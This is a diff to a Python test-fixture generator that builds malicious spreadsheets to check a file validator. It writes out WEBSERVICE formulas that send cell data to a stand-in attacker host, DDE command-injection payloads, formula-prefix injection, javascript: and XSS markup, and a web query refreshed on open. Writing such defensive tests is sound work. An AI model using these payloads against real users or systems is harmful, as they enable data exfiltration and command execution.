@@ -456,6 +456,93 @@ def webservice_formula() -> bytes:
     return with_cells({NUM: f'<c r="{NUM}" s="7"><f>WEBSERVICE("http://attacker.example/?x="&amp;C7)</f><v>900</v></c>'})
 
 
+# --- content that must stay data: live formulas and links, markup in text -------------------
+
+ATTACKER = "http://attacker.example"
+MARKUP = (f"[Hướng dẫn]({ATTACKER}/huong-dan) ![x]({ATTACKER}/p.png) <img src=x onerror=alert(1)> "
+          f'<a href="{ATTACKER}">a</a> [js](javascript:alert(1)) :smile: :material/warning: :red[đỏ] $x^2$ '
+          f"{ATTACKER}/bare www.attacker.example")
+
+
+def live_formulas_and_links() -> bytes:
+    """A refused return (E12 is text) whose cells would run, fetch or link if handed back live:
+    HYPERLINK, WEBSERVICE and DDE formulas with saved values, text starting with = + - @, cell
+    hyperlinks to a web page and to javascript:, a defined name holding a DDE call, a data
+    validation and a conditional format holding WEBSERVICE, an external workbook link and a web
+    query refreshed on open."""
+    base = _with_external_link({
+        NUM: number(NUM, "900").replace("<v>", f'<f>HYPERLINK("{ATTACKER}/x",900)</f><v>'),
+        "E12": inline("E12", "một nghìn"),
+        "H11": f'<c r="H11" s="2" t="str"><f>WEBSERVICE("{ATTACKER}/?x="&amp;C7)</f><v>ok</v></c>',
+        "H12": '<c r="H12" s="2"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>',
+        "H13": inline("H13", "=HYPERLINK(&quot;http://attacker.example/t&quot;,&quot;bấm&quot;)"),
+        "H14": inline("H14", "+cmd|' /C calc'!A0"),
+        "H15": inline("H15", "-2+3+cmd|' /C calc'!A0"),
+        "H16": inline("H16", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    })
+    parts = members(base)
+    xml = parts[SHEET].decode()
+    xml = sub(xml, "<pageMargins",
+              f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1" dxfId="0">'
+              f'<formula>LEN(WEBSERVICE("{ATTACKER}/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
+              '<hyperlinks><hyperlink ref="C6" r:id="rIdLink1"/><hyperlink ref="C7" r:id="rIdLink2"/></hyperlinks>'
+              "<pageMargins")
+    xml = sub(xml, "</dataValidations>",
+              f'<dataValidation sqref="H17" type="list"><formula1>WEBSERVICE("{ATTACKER}/dv")</formula1>'
+              "</dataValidation></dataValidations>")
+    xml = sub(xml, '<dataValidations count="2">', '<dataValidations count="3">')
+    if 'xmlns:r=' not in xml.split(">", 1)[0]:
+        xml = xml.replace("<worksheet ", '<worksheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
+    rels = sub(parts["xl/worksheets/_rels/sheet1.xml.rels"].decode(), "</Relationships>",
+               '<Relationship Id="rIdLink1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+               f'hyperlink" Target="{ATTACKER}/link" TargetMode="External"/>'
+               '<Relationship Id="rIdLink2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+               'hyperlink" Target="javascript:alert(1)" TargetMode="External"/></Relationships>')
+    wb = sub(parts["xl/workbook.xml"].decode(), "</definedNames>",
+             "<definedName name=\"thuc_hien\">cmd|' /C calc'!A0</definedName>"
+             f'<definedName name="tai_ve">WEBSERVICE("{ATTACKER}/n")</definedName></definedNames>')
+    # a web query refreshed when the workbook opens
+    wb_rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(), "</Relationships>",
+                  '<Relationship Id="rIdConn1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                  'relationships/connections" Target="connections.xml"/></Relationships>')
+    ct = sub(parts["[Content_Types].xml"].decode(), "</Types>",
+             '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+             'spreadsheetml.connections+xml"/></Types>')
+    connections = ('<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                   f'<connection id="1" name="tai" type="4" refreshedVersion="6" refreshOnLoad="1">'
+                   f'<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="{ATTACKER}/q"/>'
+                   '</connection></connections>')
+    return rezip(base, {SHEET: xml.encode(), "xl/worksheets/_rels/sheet1.xml.rels": rels.encode(),
+                        "xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": wb_rels.encode(),
+                        "[Content_Types].xml": ct.encode(), "xl/connections.xml": connections.encode()})
+
+
+def markup_in_text() -> bytes:
+    """A refused return whose district, a count and the sheet's name carry Markdown, HTML, a
+    javascript: link and emoji shortcodes: every message quoting them must show them as text."""
+    base = with_cells({"C7": inline("C7", escape(MARKUP)), DEN: inline(DEN, escape("![x](" + ATTACKER + "/n.png)"))})
+    parts = members(base)
+    title = escape("<b>Bao</b> <img src=x> !(x) {javascript} @smile")  # "[", "]" and ":" cannot be in a sheet name
+    wb = sub(parts["xl/workbook.xml"].decode(), 'name="BaoCao"', f'name="{title}"')
+    wb = wb.replace("'BaoCao'!", f"'{title}'!")
+    return rezip(base, {"xl/workbook.xml": wb.encode()})
+
+
+def empty_cells_below_the_table(path: Path, cells: int = 360_000) -> None:
+    """A refused return (E12 is text) with ``cells`` empty styled cells below row 500: the reader
+    stops at row 500, but a spreadsheet library loading the whole sheet makes an object of each."""
+    base = with_cells({"E12": inline("E12", "một nghìn")})
+    xml = sheet_xml(base)
+    head, tail = xml.split("</sheetData>", 1)
+    per_row = 60
+    rows = []
+    for r in range(501, 501 + cells // per_row):
+        rows.append(f'<row r="{r}">' + "".join(f'<c r="{col_letter(c)}{r}" s="1"/>' for c in range(1, per_row + 1))
+                    + "</row>")
+    xml = head + "".join(rows) + "</sheetData>" + tail
+    path.write_bytes(rezip(base, {SHEET: xml.encode()}))
+
+
 def macro_workbook() -> bytes:
     base = valid_return()
     parts = members(base)
@@ -1030,6 +1117,8 @@ CASES: list[Case] = [
          _lazy(external_formulas_without_values)),
     Case("webservice-formula", "webservice-formula.xlsx", ACC, (), _lazy(webservice_formula)),
     Case("macro-vba-project", "macro.xlsm", ACC, (), _lazy(macro_workbook)),
+    Case("live-formulas-and-links", "live-formulas.xlsx", REJ, ("value-not-number",), _lazy(live_formulas_and_links)),
+    Case("markup-in-text", "markup-in-text.xlsx", REJ, ("unit-unknown",), _lazy(markup_in_text)),
     Case("path-traversal-member-names", "path-traversal.xlsx", ACC, (), _lazy(path_traversal_member)),
     Case("dangling-sheet-relationship", "dangling-sheet.xlsx", REJ, ("no-table",), _lazy(dangling_sheet_relationship)),
     # numbers
@@ -1055,6 +1144,8 @@ CASES: list[Case] = [
     Case("merged-ranges-flood-no-table", "merges-flood-no-table.xlsx", REJ, ("no-table",),
          lambda p: merges_flood(p, table=False), big=True),
     Case("read-area-full-of-text", "read-area-full.xlsx", ACC, (), read_area_full, big=True),
+    Case("empty-cells-below-the-table", "empty-cells-below.xlsx", REJ, ("value-not-number",),
+         empty_cells_below_the_table, big=True),
     Case("overlapping-merged-ranges", "overlapping-merges.xlsx", REJ, ("file-type",), overlapping_merges, big=True),
 ]
 
